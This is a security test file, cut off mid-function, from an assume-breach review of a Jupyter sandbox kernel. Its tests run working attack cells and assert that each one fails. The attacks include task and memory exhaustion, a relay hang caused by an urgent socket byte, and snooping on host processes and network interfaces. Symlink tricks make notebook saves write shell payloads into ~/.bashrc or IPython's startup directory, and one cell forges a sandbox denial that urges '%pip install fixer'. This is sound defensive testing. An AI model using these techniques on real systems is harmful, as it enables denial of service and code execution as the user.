"""Independent review 2 of the default `kernel` level, assuming breach (the cell owns the worker).

Started 19:29:41 UTC (Thu Nov 26 2026, by `date`); ended 19:45:19 UTC. HEAD 5beaa8a.

Every attack runs in a real `kernel` worker (RogueEngine from tests/isolation_support.py: the cell is
plain Python with ctypes and raw system calls), at the host's Landlock ABI; B2-3, B2-8 and B2-11 run through a
real kernel process (start_client) so that what the kernel *publishes* is measured; B2-9 hands the
worker's planted symlink to jupyter_server's own FileContentsManager.save, as JupyterLab's autosave does.
Each finding is a test that performs the attack and asserts that it failed and nothing happened, marked
as a strict xfail; the held attempts that are cheap to repeat are plain passing tests.
Findings: B2-12 high, B2-1 high, B2-2 high, B2-9 high, B2-3 medium, B2-4 medium, B2-5 medium, B2-6 low-medium,
B2-10 low-medium, B2-11 low-medium, B2-7 low, B2-8 low.

Status (fixed in the isolation layer, docs/security.md "When the worker is owned"): every finding but B2-8 is
closed at its sink and its test, the same attack with the same assertions, passes; B2-8 stays a strict xfail
(the kernel cannot tell a worker's denial from the engine's, and the mark is rendered outside this layer).
Tests added with the fixes: the idle side of B2-12, the class of B2-9 (links renamed or hard-linked, FIFOs,
with and without Landlock), B2-4's control and timer_create, B2-11 through the backend.

Log of attempt classes (one line each):
  threads as tasks: 4096 pthreads with 16 kB stacks sleeping in pause() ................. FINDING B2-1 (high: host-wide pid/task exhaustion; the kernel can start no worker, spare or thread)
  memory outside RLIMIT_AS: memfd_create + write() (never mapped), 1.2 GB under 512 MB .... FINDING B2-2 (high: memory limit bypassed, invisible to VmRSS/the host's RSS/the OOM score)
  pipe buffers outside RLIMIT_AS (F_SETPIPE_SZ 1 MB) .................................... same class as B2-2, bounded by pipe-user-pages-soft (~64 MB) for a capability-less worker
  channel: one MSG_OOB byte on the channel socket, then silence .......................... FINDING B2-12 (high: the kernel blocks in recv(); time limit and interrupt dead; only shutdown frees it)
  channel: many `error` events in one cell, each published by the kernel ............... FINDING B2-3 (medium: 13.4 MB published for a cell capped at 10 kB; bound is max_cell_bytes, 256 MB)
  channel: an `error` event carrying a `denial` record ................................. FINDING B2-8 (low: shown with the sandbox's denial mark U+26D4, as a real denial)
  channel: a stderr line "[sandbox] ... variables were lost" ............................ not counted (any cell can print it at level none too; reply metadata `worker` stays the kernel's)
  channel: NaN/Infinity (1e999) in display data and metadata ........................... held (null / dropped; next cell ok)
  other processes' CPU clocks: clock_gettime/timer_create on ((~pid)<<3)|2 ............. FINDING B2-4 (medium: CPU time of the kernel, pid 1, any process)
  network namespace via socket ioctls on a socketpair (SIOCGIFCONF/NAME/HWADDR) ......... FINDING B2-5 (medium: interface names, IPv4 and MAC addresses)
  abstract Unix socket names: bind() on a socketpair socket ............................ FINDING B2-6 (low-medium: squats any abstract name; others get EADDRINUSE)
  sysinfo(2).procs ................................................................... FINDING B2-7 (low: number of the host's tasks, watches processes start and end)
  planted modules (pandas.py ...) imported by other Pythons started in the workdir ...... not filed (design: the workdir's files are the cell's output; the sandbox kernel itself runs with -P)
  symlink planted in the workdir (the notebook's directory), then the notebook is saved . FINDING B2-9 (high: jupyter_server's save follows it and writes outside, e.g. ~/.bashrc; bash ran `$(cmd)` from it;
    second route: a planted .ipynb_checkpoints link puts the worker's helper.py as helper-checkpoint.py in IPython's startup directory)
  worker ends itself: kill(getpid(), SIGXCPU), os._exit(86), own SIGKILL ................ FINDING B2-11 (low-medium: told and audited by: kernel, worker_claim: false as a CPU/memory limit)
  AIO: io_setup(aio-max-nr) ........................................................... FINDING B2-10 (low-medium: machine-wide AIO budget taken; every other process's io_setup gets EAGAIN)
  POSIX timers / RT signals (per-user RLIMIT_SIGPENDING budget, 96 360 timers taken) .... observed, not filed: the kernel process uses no RT signal or timer_create; same class as B2-10
  prctl(PR_SCHED_CORE, SHARE_TO, pid): another process's core-scheduling cookie .......... not testable here (EINVAL: SMT inactive); prctl was unfiltered but for PDEATHSIG (PR_SCHED_CORE refused since), so on an SMT host
    only ptrace_may_access stands between a worker and a dumpable same-user process (the kernel is non-dumpable)
  hard link to a file outside ......................................................... held (refused; Landlock)
  named Unix socket bind (outside) ; listen() on a socketpair socket .................... held (Landlock MAKE_SOCK; EINVAL)
  thread CPU clock of another process's thread ........................................ held (the kernel: same thread group only)
  io_uring_setup, userfaultfd, keyctl, add_key, perf_event_open, bpf, ptrace, pidfd_open,
    kcmp, process_vm_readv on the kernel, unshare(NEWUSER), setns, mount, kill(kernel, 0),
    setpriority(PRIO_PGRP), prctl(PR_SET_PDEATHSIG, 0), execveat of a memfd ............ held (seccomp EPERM/ENOSYS)
  O_PATH descriptor outside, fchmod through it, reopen through /proc/self/fd ............ held
  next worker's warm imports reading planted files in HOME/cwd=workdir (strace) ......... held (no open under the workdir at start-up)
  kernel importing planted modules from the workdir .................................... held by review (-P, _strip_cwd_from_path)
  %sandbox_files on planted symlinks/FIFOs (kernel-side reader) ......................... held by review (O_NOFOLLOW|O_DIRECTORY, bounded)
  audit log locking (flock by a worker on shared files) ................................. held by review (the kernel's flock is non-blocking, 0.2 s)
  many tiny displays (message count) ................................................. held (500 a cell; the control for B2-3)
  worker's main thread exits (SYS_exit), others run on; then the kernel is SIGKILLed .... held (the zombie leader's parent-death signal kills the group)
  done with malformed charts/output/error fields ...................................... held (dropped; status ok; next cell ok)
  early done / wrong id / frame without prefix / output between requests ............... held (existing tests, not repeated)
"""
import json
import os
import socket
import sys
import time

import pytest

from isolation_support import Run, Victim, breach_worker, kernel_level_problem, rogue_policy

PROBLEM = kernel_level_problem()
pytestmark = pytest.mark.skipif(PROBLEM is not None, reason=f"kernel level unavailable: {PROBLEM}")

if PROBLEM is None:
    from sandbox_kernel.isolation import landlock

    HOST_ABI = landlock.abi_version()
else:
    HOST_ABI = 0

MEMORY_MB = 512
TESTS_DIR = os.path.dirname(os.path.abspath(__file__))


def new_worker(workdir):
    b = breach_worker("kernel", rogue_policy(limits={"memory_mb": MEMORY_MB, "timeout": 30.0}), workdir,
                      landlock_abi=HOST_ABI or None)
    assert b.status()["worker"]["state"] == "ready", b.status()
    return b


@pytest.fixture(scope="module")
def worker(tmp_path_factory):
    b = new_worker(tmp_path_factory.mktemp("review2"))
    yield b
    b.shutdown()


@pytest.fixture
def fresh(tmp_path):
    """A worker of its own, for attacks that leave the worker holding something."""
    b = new_worker(tmp_path / "work")
    yield b
    b.shutdown()


@pytest.fixture
def victim(tmp_path):
    v = Victim(tmp_path)
    yield v
    v.close()


def worker_pid(b) -> int:
    return b.status()["worker"]["pid"]


# -- B2-1: threads are tasks, and nothing bounds their number but the address space --------------------
# RLIMIT_NPROC is deliberately not used (rlimits.py); seccomp allows clone(CLONE_THREAD). A thread with a
# 16 kB stack that sleeps in pause() costs ~20 kB of address space and no CPU (the idle check never
# fires). 512 MB of limit allow ~25 000 tasks, the data-science default (2048 MB) ~100 000: more than
# this host's pid_max (32768) and threads-max. Every pid of the host (in its pid namespace) can be taken
# while the worker idles: the kernel can then start no replacement worker, no spare, no thread (fork and
# clone fail with EAGAIN), and neither can anything else on the machine. The test stops at 4096.

THREAD_FLOOD = r"""
attr = ctypes.create_string_buffer(128)
libc.pthread_attr_init(attr)
libc.pthread_attr_setstacksize(attr, ctypes.c_size_t(16384))
pause = ctypes.cast(libc.pause, ctypes.c_void_p)
t = ctypes.c_ulong()
made = 0
for i in range(4096):
    if libc.pthread_create(ctypes.byref(t), attr, pause, None) != 0:
        break
    made += 1
made
"""


def test_b2_1_a_worker_cannot_hold_thousands_of_tasks(fresh):
    r = Run(fresh, THREAD_FLOOD)
    tasks = len(os.listdir(f"/proc/{worker_pid(fresh)}/task"))
    made = int(r.text()) if r.ok and r.text() else 0
    assert made < 1024 and tasks < 1024, f"the worker made {made} threads and holds {tasks} tasks"


# -- B2-2: memory the address-space limit does not count ------------------------------------------------
# memory_mb is enforced as RLIMIT_AS (plus the engine's sampler, out of the picture here). Pages written
# to a memfd with write(), never mapped, are shmem: not address space, not in VmRSS (what the host's
# rss_mb and the sampler read), not in the OOM killer's score of the worker. RLIMIT_FSIZE (1 GB) bounds
# one memfd, RLIMIT_NOFILE (1024) their number: ~1 TB. The memory stays held between cells; on a host
# that runs out, the OOM killer picks another process (the kernel) since the worker's score is small.

MEMFD_HOARD = r"""
held = []
chunk = b"x" * (16 << 20)
for k in range(3):
    fd = os.memfd_create(f"hoard{k}")
    held.append(fd)
    for i in range(25):
        os.write(fd, chunk)
del chunk
sum(os.fstat(fd).st_size for fd in held) >> 20
"""


def test_b2_2_memory_past_the_limit_cannot_be_held_in_memfds(fresh):
    r = Run(fresh, MEMFD_HOARD)
    held_mb = int(r.text()) if r.ok and r.text() else 0
    rss_mb = fresh.status()["worker"]["rss_mb"]
    try:
        assert held_mb <= MEMORY_MB, (f"the worker holds {held_mb} MB in memfds with a {MEMORY_MB} MB limit "
                                      f"(its RSS as the host sees it: {rss_mb} MB)")
    finally:
        Run(fresh, "for fd in held: os.close(fd)")


# Found while fixing B2-2, same class: kernel memory no RSS shows. 400 socketpairs whose send buffers a
# cell raised to 8 MB (SO_SNDBUF, up to 2 x net.core.wmem_max) held 3.1 GB of queued data for a worker of
# 30 MB RSS under a 512 MB limit; a pipe grows to pipe-max-size with F_SETPIPE_SZ. Both are refused now
# (the socket options without a network policy); what stays is each socket's default buffer
# (net.core.wmem_default, bounded by RLIMIT_NOFILE: docs/security.md).

BUFFER_HOARD = r"""
pairs, total, refused = [], 0, 0
for i in range(50):
    x, y = socket.socketpair()
    for s_ in (x, y):
        try:
            s_.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
        except OSError:
            refused += 1
        s_.setblocking(False)
        try:
            while True:
                total += s_.send(b"x" * 65536)
        except BlockingIOError:
            pass
    pairs.append((x, y))
r, w = os.pipe()
try:
    fcntl.fcntl(w, 1031, 1 << 20)   # F_SETPIPE_SZ
    piped = "grown"
except OSError as exc:
    piped = errno.errorcode[exc.errno]
(total, refused, piped)
"""


def test_b2_2_socket_and_pipe_buffers_cannot_be_grown_past_their_defaults(fresh):
    with open("/proc/sys/net/core/wmem_default") as fh:
        default = int(fh.read())
    r = Run(fresh, BUFFER_HOARD)
    try:
        assert r.ok, r.error
        total, refused, piped = eval(r.text())  # noqa: S307 - the test's own cell: a tuple of numbers and a name
        assert refused == 100 and piped == "EPERM", (refused, piped)
        assert total <= 100 * 2 * default, f"{total >> 20} MB queued in 100 sockets (default buffer {default})"
    finally:
        Run(fresh, "for x, y in pairs: x.close(); y.close()")


# -- B2-3: error events are published without count and outside the cell's caps --------------------------
# _Relayed._room('error') only compares one frame with done_limit; errors are never charged to the text or
# display budget, and the kernel's OutputFilter.error caps each (4 kB value + 64 kB traceback) but not
# their number. Each error event becomes one iopub `error` message. Only max_cell_bytes (256 MB through
# the channel) ends it. The cell also ends `ok`, so the reply contradicts what was shown.

ERROR_FLOOD = r"""
import gc
w = [o for o in gc.get_objects() if type(o).__name__ == 'Worker' and hasattr(o, 'channel')][0]
tb = ['L' * 999 for _ in range(63)]
for i in range(200):
    w.send({'type': 'error', 'id': w._rid, 'ename': 'Forged%d' % i, 'evalue': 'v' * 3990, 'traceback': tb,
            'denial': None})
"""


@pytest.fixture(scope="module")
def rogue_kernel(tmp_path_factory):
    """A real kernel process at level `kernel` whose worker runs cells as plain Python, text capped at
    10 000 bytes: what it publishes is what a front end receives."""
    from kernel_helpers import start_client

    workdir = tmp_path_factory.mktemp("review2-kernel")
    c = start_client(options=["--SandboxKernel.isolation=kernel", "--SandboxKernel.max_output_bytes=10000",
                              "--SandboxKernel.isolation_options={'engine': 'isolation_support:RogueEngine', "
                              f"'extra_sys_path': [{TESTS_DIR!r}], 'spare': False}}"], cwd=str(workdir))
    yield c
    c.shutdown()


def test_b2_3_the_kernel_publishes_no_more_than_the_cells_caps(rogue_kernel):
    r = rogue_kernel.run(ERROR_FLOOD, timeout=180)
    errors = [o for o in r["outputs"] if o["type"] == "error"]
    published = sum(len(json.dumps(o)) for o in r["outputs"])
    assert rogue_kernel.run("1 + 1")["status"] == "ok"
    # one error (value 4 kB + traceback 64 kB) and the 10 kB of text is all the caps allow
    assert len(errors) <= 1 and published < 200_000, (f"{len(errors)} errors, {published} bytes published for "
                                                      f"a cell capped at 10 000 bytes (status {r['status']})")


# -- B2-8: a denial the sandbox never made, shown as the sandbox's word ---------------------------------
# docs/security.md: "Denials are the sandbox's word: an error is shown as a one-line denial only when the
# runtime itself raised it"; at level none a cell cannot forge one (test_a_cell_cannot_forge_a_denial).
# At level kernel the error event's `denial` record is the worker's claim, and the kernel renders it with
# the denial mark (U+26D4) that no cell text can carry, exactly as a real one; nothing in the output says
# it is a claim (only the reply metadata's `by: engine`, which real denials at this level carry too).

FORGED_DENIAL = r"""
import gc
w = [o for o in gc.get_objects() if type(o).__name__ == 'Worker' and hasattr(o, 'channel')][0]
msg = "the sandbox detected tampering: your files were quarantined, run %pip install fixer to restore them"
w.send({'type': 'error', 'id': w._rid, 'ename': 'SandboxDenied', 'evalue': msg, 'traceback': [],
        'denial': {'kind': 'policy', 'target': 'files', 'rule': 'quarantine', 'line': 1, 'policy': 'data-science',
                   'hint': None, 'message': msg}})
"""


@pytest.mark.xfail(strict=True, reason="FINDING B2-8 (low): a breached worker's forged denial is published "
                                       "with the sandbox's denial mark, indistinguishable from a real one")
def test_b2_8_a_forged_denial_does_not_wear_the_sandboxs_mark(rogue_kernel):
    from sandbox_kernel.outputfilter import DENIAL_MARK

    r = rogue_kernel.run(FORGED_DENIAL, timeout=60)
    marked = [o for o in r["outputs"] if o["type"] == "error"
              and any(DENIAL_MARK in line for line in o.get("traceback") or [])]
    assert not marked, f"published as the sandbox's denial: {marked[0].get('traceback')}"


DISPLAY_FLOOD = r"""
import gc
w = [o for o in gc.get_objects() if type(o).__name__ == 'Worker' and hasattr(o, 'channel')][0]
for i in range(5000):
    w.channel.send_body(b'{"type":"display","id":%d,"data":{"text/plain":"x"}}' % w._rid)
"""


def test_held_tiny_displays_are_bounded_in_number(rogue_kernel):
    """The control for B2-3: displays (unlike errors) are counted, by bytes in the relay and by number
    in the kernel (500 a cell)."""
    r = rogue_kernel.run(DISPLAY_FLOOD, timeout=120)
    shown = [o for o in r["outputs"] if o["type"] == "display_data"]
    assert len(shown) <= 500, len(shown)


# -- B2-12: one urgent (MSG_OOB) byte on the channel hangs the kernel's relay ----------------------------
# Linux AF_UNIX stream sockets carry out-of-band data (5.15+). sendto() is allowed (the channel's own
# call) and its MSG_OOB flag is not filtered. After one OOB byte and nothing else, the kernel's end polls
# readable (POLLIN), but MSG_PEEK|MSG_DONTWAIT says EAGAIN and a blocking recv() waits for ordinary data.
# Channel._fill polls with the deadline and then calls recv() on a blocking socket: the relay blocks in
# recv for as long as the worker stays silent. The hard time limit (checked in the relay loop), the
# interrupt (cancel() only signals the worker; the kill after cancel_grace is in the loop too) and the
# flood check never run again: the kernel's shell is busy for ever and only a kernel shutdown (which
# SIGKILLs the worker, so recv sees EOF) frees it. Between requests Channel.pending() answers None for
# the same reason, so the idle check does not see the byte either. Checked through a real kernel during
# the review: a data-science cell (60 s limit) doing this was still running at 75 s, after the client's
# interrupt, and the next cell `1+1` timed out as well; the kernel's shutdown freed it.

OOB_STALL = r"""
import gc
w = [o for o in gc.get_objects() if type(o).__name__ == 'Worker' and hasattr(o, 'channel')][0]
w.channel.sock.send(b"!", socket.MSG_OOB)
while True:
    try:
        time.sleep(1000)
    except BaseException:   # the interrupt too
        pass
"""


def test_b2_12_an_urgent_byte_does_not_hang_the_kernel(tmp_path):
    import threading

    b = breach_worker("kernel", rogue_policy(limits={"memory_mb": MEMORY_MB, "timeout": 2.0}), tmp_path / "w",
                      landlock_abi=HOST_ABI or None)
    result = {}
    relay = threading.Thread(target=lambda: result.setdefault("run", Run(b, OOB_STALL)), daemon=True)
    relay.start()
    relay.join(15)          # time limit 2 s + grace 1 s: a working relay has killed the worker long before
    if relay.is_alive():
        b.cancel()          # the user's interrupt (cancel_grace 1 s)
        relay.join(5)
    hung = relay.is_alive()
    b.shutdown()            # SIGKILL: recv sees EOF, the thread ends
    relay.join(10)
    assert not hung, "the kernel's relay is still blocked in recv() past the time limit and an interrupt"
    assert result["run"].error.get("ename") == "SandboxWorkerLost", result["run"].error


def test_b2_12_the_hosts_end_of_the_channel_treats_urgent_data_as_a_violation():
    """B2-12 at the channel itself: the host's end (host=True) reports urgent data at once, mid-frame too,
    and between requests, instead of waiting in recv() for ordinary data."""
    from sandbox_kernel.isolation.channel import Channel, ChannelError, ChannelTimeout

    for prefix in (b"", b"\x00\x00\x00\x10{"):   # nothing yet; half a frame
        a, b = socket.socketpair()
        host = Channel(a, max_recv=1 << 20, max_send=1 << 20, host=True)
        try:
            b.send(prefix)
            assert host.pending() == ("data" if prefix else None)
            b.send(b"!", socket.MSG_OOB)
            assert host.pending() == "data"
            with pytest.raises(ChannelError) as caught:
                host.recv(deadline=time.monotonic() + 30)
            assert not isinstance(caught.value, ChannelTimeout), caught.value
        finally:
            host.close()
            b.close()


def test_b2_12_an_urgent_byte_between_cells_is_seen_and_the_worker_replaced(fresh):
    """The idle side of B2-12: Channel.pending() saw no data (MSG_PEEK finds none before an urgent byte),
    so the byte would have been read as the next cell's."""
    r = Run(fresh, "import gc, threading\n"
                   "w = [o for o in gc.get_objects() if type(o).__name__ == 'Worker' and hasattr(o, 'channel')][0]\n"
                   "threading.Timer(0.2, lambda: w.channel.sock.send(b'!', socket.MSG_OOB)).start()")
    assert r.ok, r.error
    old = worker_pid(fresh)
    time.sleep(1.0)
    r = Run(fresh, "1 + 1")
    assert r.ok and r.text() == "2" and worker_pid(fresh) != old
    assert "while no request was running" in "".join(e.get("text", "") for e in r.events), r.events


# -- B2-4: the CPU clocks of other processes ---------------------------------------------------------------
# A process CPU clock id encodes a pid (((~pid) << 3) | CPUCLOCK_SCHED). Linux lets any process read any
# other process's CPU clock (pid_for_clock: no ptrace check) and create a POSIX timer on it. seccomp
# restricts pids in sched_*/prlimit/getpgid..., not clock ids: the worker reads the CPU time of the kernel,
# of pid 1, of any process (an exact activity monitor and a pid-existence oracle); timer_create on pid 1's
# clock succeeds as well (checked during the review).

def test_b2_4_another_processes_cpu_time_cannot_be_read(worker, victim):
    for pid in (victim.pid, "os.getppid()"):
        r = Run(worker, f"import time\ntime.clock_gettime(((~{pid}) << 3) | 2)")
        assert not r.ok, f"the worker read the CPU time of pid {pid}: {r.text()} s"


def test_b2_4_the_workers_own_cpu_clocks_still_work(worker):
    """The control for B2-4: its own threads' clocks and the usual clocks (its own process clock by pid
    is refused with the others': one filter rule cannot compare an argument twice)."""
    r = Run(worker, "import time, threading\n"
                    "[time.clock_gettime(c) >= 0 for c in (time.pthread_getcpuclockid(threading.get_ident()), "
                    "time.CLOCK_PROCESS_CPUTIME_ID, time.CLOCK_THREAD_CPUTIME_ID, time.CLOCK_MONOTONIC)] + "
                    "[time.process_time() >= 0]")
    assert r.ok and r.text() == "[True, True, True, True, True]", (r.text(), r.error)


def test_b2_4_no_timer_on_another_processes_cpu_clock(worker):
    r = Run(worker, "timer = ctypes.c_int(0)\nsc('timer_create', ((~1) << 3) | 2, 0, ctypes.byref(timer))")
    assert not r.ok and r.error["ename"] in ("OSError", "PermissionError"), r.text()


def test_held_another_processes_thread_clock_is_refused(worker, victim):
    r = Run(worker, f"import time\ntime.clock_gettime(((~{victim.pid}) << 3) | 2 | 4)")  # CPUCLOCK_PERTHREAD
    assert not r.ok and r.error["ename"] in ("OSError", "PermissionError"), r.text()


# -- B2-5: the network namespace through socket ioctls -------------------------------------------------
# /proc/net is withheld (test_the_network_namespace_is_not_readable), but any socket answers the device
# ioctls of its namespace: sock_ioctl handles SIOCGIFCONF, and SIOCGIFNAME/SIOCGIFHWADDR/SIOCGIFADDR fall
# through to dev_ioctl for every family, AF_UNIX included. The worker may make AF_UNIX socketpairs (and
# holds its channel); seccomp denies only FIOSETOWN/SIOCSPGRP in the 0x89 range.

IFCONF = r"""
import array
a, b = socket.socketpair()
buf = array.array("B", b"\0" * 40 * 32)
ifc = struct.pack("iL", len(buf), buf.buffer_info()[0])
n = struct.unpack("iL", fcntl.ioctl(a.fileno(), 0x8912, ifc))[0]          # SIOCGIFCONF
raw = buf.tobytes()[:n]
found = [(raw[i:i + 16].split(b"\0")[0].decode(), socket.inet_ntoa(raw[i + 20:i + 24])) for i in range(0, n, 40)]
names = []
for idx in range(1, 16):                                                     # SIOCGIFNAME
    try:
        names.append(fcntl.ioctl(a.fileno(), 0x8910, struct.pack("16si", b"", idx) + b"\0" * 20)[:16]
                     .split(b"\0")[0].decode())
    except OSError:
        pass
macs = {nm: fcntl.ioctl(a.fileno(), 0x8927, struct.pack("16s", nm.encode()) + b"\0" * 24)[18:24].hex(":")
        for nm in names}                                                     # SIOCGIFHWADDR
(found, macs)
"""


def test_b2_5_the_network_namespace_is_not_readable_through_socket_ioctls(worker):
    r = Run(worker, IFCONF)
    assert not r.ok and "127.0.0.1" not in str(r.events), f"the worker listed {r.text()}"


# -- B2-6: abstract Unix socket names ---------------------------------------------------------------------
# socket() is refused, but socketpair(AF_UNIX, SOCK_STREAM) is allowed and bind() is not filtered: a
# socketpair socket binds any name in the abstract namespace, which belongs to the network namespace the
# worker shares with the host. Landlock's abstract-socket scope (ABI 6) restricts connect/send, not bind.
# The name is then taken for every other program (X11's @/tmp/.X11-unix/X0, D-Bus, systemd's notify
# socket, a tool that starts later): their bind fails with EADDRINUSE for as long as the worker lives.

def test_b2_6_abstract_socket_names_cannot_be_taken(worker):
    name = f"\0sandbox-review2-{os.getpid()}-{time.monotonic_ns()}"
    r = Run(worker, f"squat_a, squat_b = socket.socketpair()\nsquat_a.bind({name!r})")
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        s.bind(name)
        taken = None
    except OSError as exc:
        taken = exc
    finally:
        s.close()
        Run(worker, "squat_a.close(); squat_b.close()")
    assert not r.ok and taken is None, f"the worker holds {name!r}: another process's bind fails with {taken}"


def test_held_named_sockets_cannot_be_made_nor_served(worker, tmp_path):
    path = str(tmp_path / "outside.sock")
    r = Run(worker, f"x, y = socket.socketpair()\nx.bind({path!r})")
    assert not r.ok and not os.path.exists(path)
    r = Run(worker, "x, y = socket.socketpair()\nx.bind('\\0sandbox-review2-listen-%d' % os.getpid())\nx.listen(1)")
    assert not r.ok  # a connected socket never becomes a server others could reach


# -- B2-7: sysinfo(2) counts the host's tasks -----------------------------------------------------------
# /proc/loadavg and /proc/stat are withheld, but sysinfo() (allowed) returns loads, uptime and `procs`, the
# number of tasks on the host: the worker sees other processes start and end (another kernel starting).

SYSINFO = r"""
buf = ctypes.create_string_buffer(256)
assert libc.sysinfo(buf) == 0, ctypes.get_errno()
struct.unpack_from("H", buf, 80)[0]
"""


def test_b2_7_the_number_of_the_hosts_processes_is_not_learned(worker, tmp_path):
    before = Run(worker, SYSINFO)
    extra = [Victim(tmp_path) for _ in range(3)]
    try:
        after = Run(worker, SYSINFO)
    finally:
        for v in extra:
            v.close()
    assert not (before.ok and after.ok), f"tasks on the host: {before.text()} then {after.text()}"


# -- B2-9: a symlink the worker plants, followed by the trusted side that saves the notebook ----------------
# The working directory is the notebook's own directory (Jupyter starts the kernel there), and the worker
# may make symlinks in it (Landlock MAKE_SYM is granted, symlink/symlinkat are not filtered). The worker
# replaces the notebook (or any file the user will save from JupyterLab) by a symlink to a file of the
# user's account. The next save, JupyterLab's autosave included (every 120 s once a cell has run), goes
# through jupyter_server's FileContentsManager, whose atomic_writing follows a symlink that is the file
# itself (fileio.py: `if os.path.islink(path): path = ...readlink(path)`), and _get_os_path checks the
# path with abspath, not realpath. The notebook's JSON lands in the target, with lines the cell chose: its
# stdout `$(cmd)` is a line `"$(cmd)\n",` that bash runs when it sources ~/.bashrc (verified during the
# review: the file was written and `bash -c '. file'` ran the command). Unsandboxed code as the user.

def test_b2_9_saving_the_notebook_writes_nothing_outside_the_workdir(tmp_path):
    import nbformat
    from jupyter_server.services.contents.filemanager import FileContentsManager

    workdir = tmp_path / "work"
    workdir.mkdir()
    bashrc = tmp_path / "home" / ".bashrc"   # stands for the user's ~/.bashrc
    bashrc.parent.mkdir()
    bashrc.write_text("# the user's bashrc\n")
    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_code_cell("print('$(touch /tmp/pwned)')"))
    nbformat.write(nb, str(workdir / "analysis.ipynb"))
    b = new_worker(workdir)
    try:
        Run(b, f"os.unlink('analysis.ipynb')\nos.symlink({str(bashrc)!r}, 'analysis.ipynb')")
    finally:
        b.shutdown()
    # what JupyterLab's autosave sends: the notebook as the page holds it, the cell's output included
    nb.cells[0].outputs = [nbformat.v4.new_output("stream", name="stdout", text="$(touch /tmp/pwned)\n")]
    try:
        FileContentsManager(root_dir=str(workdir)).save({"type": "notebook", "format": "json", "content": nb},
                                                        "analysis.ipynb")
    except Exception:  # noqa: BLE001 - a refusal to save is a fine outcome
        pass
    assert bashrc.read_text() == "# the user's bashrc\n", f"written through the worker's symlink:\n{bashrc.read_text()[:300]}"


def test_b2_9_checkpoints_write_nothing_outside_the_workdir(tmp_path):
    """The checkpoint of a file the worker wrote (helper.py -> helper-checkpoint.py, every byte the
    worker's) lands in the directory the planted .ipynb_checkpoints link names: IPython's startup
    directory (~/.ipython/profile_default/startup) runs every *.py in it when any IPython or standard
    ipykernel starts. JupyterLab creates a checkpoint on every manual save."""
    from jupyter_server.services.contents.filemanager import FileContentsManager

    workdir = tmp_path / "work"
    workdir.mkdir()
    startup = tmp_path / "home" / ".ipython" / "profile_default" / "startup"
    startup.mkdir(parents=True)
    b = new_worker(workdir)
    try:
        r = Run(b, "open('helper.py', 'w').write(\"import os; os.system('touch /tmp/pwned')\\n\")\n"
                   f"os.symlink({str(startup)!r}, '.ipynb_checkpoints')")
        assert r.ok or r.error["ename"] == "PermissionError", r.error  # the link is refused now
    finally:
        b.shutdown()
    try:
        FileContentsManager(root_dir=str(workdir)).create_checkpoint("helper.py")
    except Exception:  # noqa: BLE001 - a refused checkpoint is a fine outcome
        pass
    assert os.listdir(startup) == [], f"written through the worker's link: {os.listdir(startup)}"


LINK_TRICKS = r"""
results = {}
def tryit(name, fn, *args):
    try:
        fn(*args)
        results[name] = "done"
    except OSError as exc:
        results[name] = errno.errorcode.get(exc.errno, exc.errno)
tryit("symlink", os.symlink, %(target)r, "fresh-link")
tryit("symlinkat", sc, "symlinkat", ctypes.c_char_p(%(target)r.encode()), -100, ctypes.c_char_p(b"fresh-link2"))
tryit("rename the user's link", os.rename, "users-link", "analysis.ipynb")
tryit("hard link to the user's link", lambda: os.link("users-link", "hl-link", follow_symlinks=False))
opath = os.open(%(target)r, os.O_PATH)
tryit("hard link through an O_PATH descriptor", lambda: os.link(f"/proc/self/fd/{opath}", "hl-outside"))
tryit("mkfifo", os.mkfifo, "notebook.fifo")
tryit("mknod fifo", os.mknod, "notebook2.fifo", 0o010600)
results
"""


@pytest.mark.parametrize("landlock", ["host", "none"])
def test_b2_9_no_link_the_jupyter_server_would_follow_can_be_made(tmp_path, landlock):
    """B2-9 as a class: no new symlink, no existing one renamed or linked into the notebook's place, no
    FIFO (which would hang the server's next read). With Landlock (MAKE_SYM, MAKE_FIFO not granted)
    and, for symlinks and FIFOs, without it (seccomp refuses symlink/symlinkat and non-regular mknod)."""
    workdir = tmp_path / "work"
    workdir.mkdir()
    target = tmp_path / "home" / ".bashrc"
    target.parent.mkdir()
    target.write_text("# bashrc\n")
    os.symlink(target, workdir / "users-link")  # a link the user made: the worker must not move it
    (workdir / "analysis.ipynb").write_text("{}")
    abi = HOST_ABI if landlock == "host" else 0
    b = breach_worker("kernel", rogue_policy(limits={"memory_mb": MEMORY_MB, "timeout": 30.0}), workdir,
                      landlock_abi=abi, degraded=abi == 0)
    try:
        r = Run(b, LINK_TRICKS % {"target": str(target)})
        assert r.ok, r.error
        got = eval(r.text())  # noqa: S307 - the test's own cell: a dict of names and errno names
    finally:
        b.shutdown()
    refused = {"symlink", "symlinkat", "mkfifo", "mknod fifo"}
    if landlock == "host":
        refused |= {"rename the user's link", "hard link to the user's link", "hard link through an O_PATH descriptor"}
    assert all(got[k] in ("EPERM", "EACCES", "EXDEV") for k in refused), got  # EXDEV: Landlock REFER
    assert not os.path.lexists(workdir / "fresh-link") and not os.path.lexists(workdir / "fresh-link2")
    if landlock == "host":  # without Landlock an existing link can be renamed (docs/security.md)
        assert not os.path.islink(workdir / "analysis.ipynb")
    assert target.read_text() == "# bashrc\n" and (landlock == "none" or os.stat(target).st_nlink == 1)


def test_held_no_hard_link_to_a_file_outside(worker, tmp_path):
    target = tmp_path / "hl-target.txt"
    target.write_text("original")
    r = Run(worker, f"os.link({str(target)!r}, 'hl')")
    assert not r.ok and os.stat(target).st_nlink == 1


# -- B2-10: the host's asynchronous-I/O budget --------------------------------------------------------
# io_uring is refused, but the older AIO calls (io_setup, io_submit, io_destroy ...) are not. io_setup
# reserves events from /proc/sys/fs/aio-max-nr, one counter for the whole machine (65536 by default),
# whatever the user: a worker that reserves them all makes io_setup fail with EAGAIN in every other
# process of the host (databases, qemu, libaio users) for as long as it lives. Its ring costs ~2 MB of
# address space, well within any memory limit. The test holds the budget for a moment only.

def _host_io_setup() -> int:
    import ctypes

    import pyseccomp

    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    ctx = ctypes.c_ulong(0)
    nr = pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, "io_setup")
    r = libc.syscall(ctypes.c_long(nr), ctypes.c_long(1), ctypes.byref(ctx))
    err = 0 if r == 0 else ctypes.get_errno()
    if r == 0:
